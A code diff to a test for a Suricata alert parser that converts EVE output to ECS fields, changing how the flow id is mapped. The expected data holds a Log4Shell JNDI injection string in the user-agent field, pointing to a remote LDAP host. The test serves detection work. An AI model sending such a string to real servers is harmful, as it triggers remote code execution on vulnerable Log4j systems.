@@ -107,13 +107,14 @@ describe.skipIf(!present)('parseEve on real Suricata 7.0.10 output', () => {
     expect(first.ecs).toMatchObject({
       '@timestamp': '2022-05-11T18:10:22.056Z', 'event.category': ['network', 'intrusion_detection'], 'event.type': ['allowed'],
       'event.action': 'allowed', 'event.severity': 1, 'event.module': 'suricata', 'event.dataset': 'suricata.alert',
-      'event.id': '1323812402626059', 'source.ip': '192.168.2.6', 'source.port': 38782, 'destination.ip': '192.168.2.5',
+'source.ip': '192.168.2.6', 'source.port': 38782, 'destination.ip': '192.168.2.5',
       'destination.port': 8080, 'network.transport': 'tcp', 'network.protocol': 'http', 'rule.category': 'Attempted Administrator Privilege Gain',
       'threat.technique.id': ['T1190'], 'url.original': '/Log4j-2.14.0-SNAPSHOT/api', 'url.path': '/Log4j-2.14.0-SNAPSHOT/api',
       'url.domain': '192.168.2.5', 'http.request.method': 'GET', 'http.response.status_code': 200,
       'user_agent.original': '${jndi:ldap://192.168.2.6:1389/o=reference}',
     });
     expect(first.raw['flow_id']).toBe(1323812402626059);
+    expect(first.ecs['event.id']).toBeUndefined();
     const stats = events.find((e) => e.raw['event_type'] === 'stats')!;
     expect(stats.ecs['event.kind']).toBe('metric');
   });
